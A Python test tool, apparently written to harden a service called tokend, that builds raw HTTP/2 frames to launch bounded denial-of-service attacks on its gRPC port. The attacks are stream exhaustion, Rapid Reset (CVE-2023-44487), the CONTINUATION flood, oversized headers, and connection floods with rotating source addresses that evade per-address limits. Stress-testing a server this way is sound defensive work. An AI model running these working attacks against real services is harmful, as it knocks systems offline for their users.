"""Hostile HTTP/2 clients for tokend's gRPC port (issue 17), from raw frames.

Our own frame writer (RFC 9113 framing, RFC 7541 literal header fields): the
attacks need frames no well-behaved library will send. Plaintext h2c with
prior knowledge, loopback only; every attack is bounded in count and time.

  h2_attack.py ATTACK HOST:PORT [N] [SECONDS] [SOURCES]
    streams      open N streams on one connection and never finish them
    rapid_reset  N x (HEADERS, RST_STREAM) on one connection (CVE-2023-44487)
    continuation HEADERS then CONTINUATION frames, N bytes in all, never
                 END_HEADERS (the CONTINUATION flood)
    big_header   one request whose header block is N bytes, in one write
    idle         N connections that send the preface and SETTINGS, then idle
    silent       N TCP connections that never send a byte (fd exhaustion)
SOURCES: the local addresses connections come from, one ("127.0.0.2") or a
range of last octets ("127.0.0.2-21"), taken in turn; by default the
system's choice. Many clients, as far as per-address limits can tell.
Prints one JSON line: what was sent and what the server answered.
"""

import json
import resource
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9)
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8
SETTINGS_NAMES = {1: "header_table_size", 3: "max_concurrent_streams",
                  4: "initial_window_size", 5: "max_frame_size",
                  6: "max_header_list_size"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return b"\x00" + hpack_int(len(name), 7) + name + \
        hpack_int(len(value), 7) + value


def request_block(path="/grpc.health.v1.Health/Check", extra=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path),
              (":authority", "tokend"), ("content-type", "application/grpc"),
              ("te", "trailers")] + list(extra)
    return b"".join(literal(n, v) for n, v in fields)


def sources(spec):
    """An endless cycle of source addresses from SOURCES (None: any)."""
    if not spec:
        while True:
            yield None
    base, _, last = spec.partition("-")
    prefix, first = base.rsplit(".", 1)
    octets = range(int(first), int(last or first) + 1)
    while True:
        for octet in octets:
            yield "%s.%d" % (prefix, octet)


SOURCE = sources(None)


class Conn:
    def __init__(self, addr, timeout=10):
        source = next(SOURCE)
        self.sock = socket.create_connection(
            addr, timeout=timeout,
            source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.settings = {}
        self.rst = 0
        self.goaway = None
        self.headers_frames = 0
        self.closed = False
        self.sent = 0

    def start(self):
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        self.sock.sendall(data)
        self.sent += len(data)

    def poll(self, wait=0.0):
        """Reads what has arrived (up to `wait` seconds for the first byte)."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    self.closed = True
                    break
                self.buf += chunk
                self.sock.settimeout(0.0001)
        except (socket.timeout, BlockingIOError):
            pass
        except (ConnectionResetError, BrokenPipeError):
            self.closed = True
        self._parse()

    def _parse(self):
        while len(self.buf) >= 9:
            length = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if kind == SETTINGS and not flags & 0x1:
                for i in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack(">HI", payload[i:i + 6])
                    self.settings[SETTINGS_NAMES.get(key, str(key))] = value
                self.send(frame(SETTINGS, 0x1, 0))  # ACK
            elif kind == PING and not flags & 0x1:
                self.send(frame(PING, 0x1, 0, payload))
            elif kind == RST_STREAM:
                self.rst += 1
            elif kind == GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == HEADERS:
                self.headers_frames += 1

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def opened(addr):
    """A connection past the preface, with the server's SETTINGS read."""
    c = Conn(addr)
    c.start()
    c.poll(1.0)
    return c


def bounded(seconds):
    end = time.monotonic() + seconds
    return lambda: time.monotonic() < end


def attack_streams(addr, n, seconds):
    c = opened(addr)
    more = bounded(seconds)
    block = request_block()
    sent = 0
    for i in range(n):
        if not more() or c.closed:
            break
        try:
            c.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block))
        except OSError:
            c.closed = True
            break
        sent += 1
        if i % 500 == 0:
            c.poll()
    c.poll(1.0)
    result = {"streams_opened": sent, "refused": c.rst, "goaway": c.goaway,
              "settings": c.settings, "closed": c.closed}
    return result, c


def attack_rapid_reset(addr, n, seconds):
    c = opened(addr)
    more = bounded(seconds)
    block = request_block()
    sent = 0
    batch = []
    for i in range(n):
        if not more() or c.closed:
            break
        sid = 2 * i + 1
        batch.append(frame(HEADERS, END_HEADERS, sid, block) +
                     frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        if len(batch) == 100:
            try:
                c.send(b"".join(batch))
            except OSError:
                c.closed = True
                break
            sent += len(batch)
            batch = []
            c.poll()
    c.poll(1.0)
    return {"resets_sent": sent, "goaway": c.goaway, "closed": c.closed}, c


def attack_continuation(addr, n, seconds):
    c = opened(addr)
    more = bounded(seconds)
    c.send(frame(HEADERS, 0, 1, request_block()))
    chunk = literal("x-flood", "f" * 16000)
    sent = 0
    while sent < n and more() and not c.closed:
        try:
            c.send(frame(CONTINUATION, 0, 1, chunk))
        except OSError:
            c.closed = True
            break
        sent += len(chunk)
        if sent % (len(chunk) * 64) < len(chunk):
            c.poll()
    c.poll(1.0)
    return {"bytes_sent": sent, "goaway": c.goaway, "closed": c.closed}, c


def attack_big_header(addr, n, seconds):
    c = opened(addr)
    block = request_block(extra=[("x-big", "b" * n)])
    # One HEADERS frame may carry at most the peer's max_frame_size (16 KiB
    # by default): the rest goes in CONTINUATION frames, all in one write.
    step = c.settings.get("max_frame_size", 16384)
    frames = [frame(HEADERS, 0 if len(block) > step else END_HEADERS | END_STREAM,
                    1, block[:step])]
    for i in range(step, len(block), step):
        last = i + step >= len(block)
        frames.append(frame(CONTINUATION, END_HEADERS if last else 0, 1,
                            block[i:i + step]))
    try:
        c.send(b"".join(frames))
    except OSError:
        c.closed = True
    c.poll(min(seconds, 5.0))
    # A response HEADERS frame means the server took the call.
    return {"header_bytes": n, "answered": c.headers_frames > 0,
            "refused": c.rst > 0 or c.goaway is not None or c.closed}, c


def attack_connections(addr, n, seconds, speak):
    conns = []
    more = bounded(seconds)
    refused = 0
    for _ in range(n):
        if not more():
            break
        try:
            c = Conn(addr, timeout=5)
            if speak:
                c.start()
            conns.append(c)
        except OSError:
            refused += 1
    return {"connections": len(conns), "refused": refused}, conns


def main():
    # Thousands of sockets: the attacker's own soft limit must not be the
    # bound being measured.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kind, target = sys.argv[1], sys.argv[2]
    host, port = target.rsplit(":", 1)
    addr = (host, int(port))
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 20
    global SOURCE
    SOURCE = sources(sys.argv[5] if len(sys.argv) > 5 else None)
    start = time.monotonic()
    if kind in ("idle", "silent"):
        result, held = attack_connections(addr, n, seconds, kind == "idle")
        # Held until told (stdin closes), so the caller can measure.
        print(json.dumps(dict(result, seconds=round(time.monotonic() - start, 2))),
              flush=True)
        sys.stdin.read()
        for c in held:
            c.close()
        return
    result, c = {"streams": attack_streams, "rapid_reset": attack_rapid_reset,
                 "continuation": attack_continuation,
                 "big_header": attack_big_header}[kind](addr, n, seconds)
    print(json.dumps(dict(result, seconds=round(time.monotonic() - start, 2))),
          flush=True)
    c.close()


if __name__ == "__main__":
    main()
